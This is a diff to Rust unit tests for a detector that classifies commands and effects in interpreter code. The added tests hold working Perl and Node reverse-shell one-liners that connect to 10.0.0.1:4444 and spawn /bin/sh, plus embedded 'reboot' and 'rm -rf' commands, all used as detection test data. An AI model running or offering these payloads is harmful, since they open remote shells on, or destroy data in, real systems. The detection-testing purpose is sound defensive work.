@@ -410,6 +410,14 @@ mod tests {
             shell("python3", "os.system('rm -rf ' + d)"),
             ["rm -rf \"$(interpreter value)\""]
         );
+        // Python's exec runs Python; Perl's runs a program.
+        assert_eq!(
+            shell("python3", "exec('import os; os.system(\"reboot\")')"),
+            ["reboot"]
+        );
+        assert_eq!(shell("perl", "exec 'reboot'"), ["reboot"]);
+        // A command whose program is unknown is left alone.
+        assert!(shell("python3", "os.system(tool + ' --force')").is_empty());
         // JavaScript backticks are strings, not commands.
         assert!(shell("node", "console.log(`rm -rf /`)").is_empty());
     }
@@ -597,6 +605,12 @@ mod tests {
         assert!(effects("php", php).contains(&Action::ReverseShell));
         let ruby = r#"require 'socket';s=TCPSocket.new("10.0.0.1",4444);[0,1,2].each{|f|s.reopen(f) rescue nil};exec "/bin/sh -i""#;
         assert!(effects("ruby", ruby).contains(&Action::ReverseShell));
+        let perl = r#"use Socket;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));connect(S,sockaddr_in(4444,inet_aton("10.0.0.1")));open(STDIN,">&S");open(STDOUT,">&S");exec("/bin/sh")"#;
+        assert!(effects("perl", perl).contains(&Action::ReverseShell));
+        let node = r#"var net=require("net"),cp=require("child_process"),sh=cp.spawn("/bin/sh",[]);var c=new net.Socket();c.connect(4444,"10.0.0.1",function(){c.pipe(sh.stdin);sh.stdout.pipe(c);});"#;
+        assert!(effects("node", node).contains(&Action::ReverseShell));
+        let reads = "import socket; s=socket.socket(); s.connect(('h', 1)); cmd = open('/bin/sh', 'rb').read(4)";
+        assert!(!effects("python3", reads).contains(&Action::ReverseShell));
         let client =
             "import socket; s = socket.create_connection(('example.com', 80)); s.sendall(b'GET /')";
         assert!(!effects("python3", client).contains(&Action::ReverseShell));
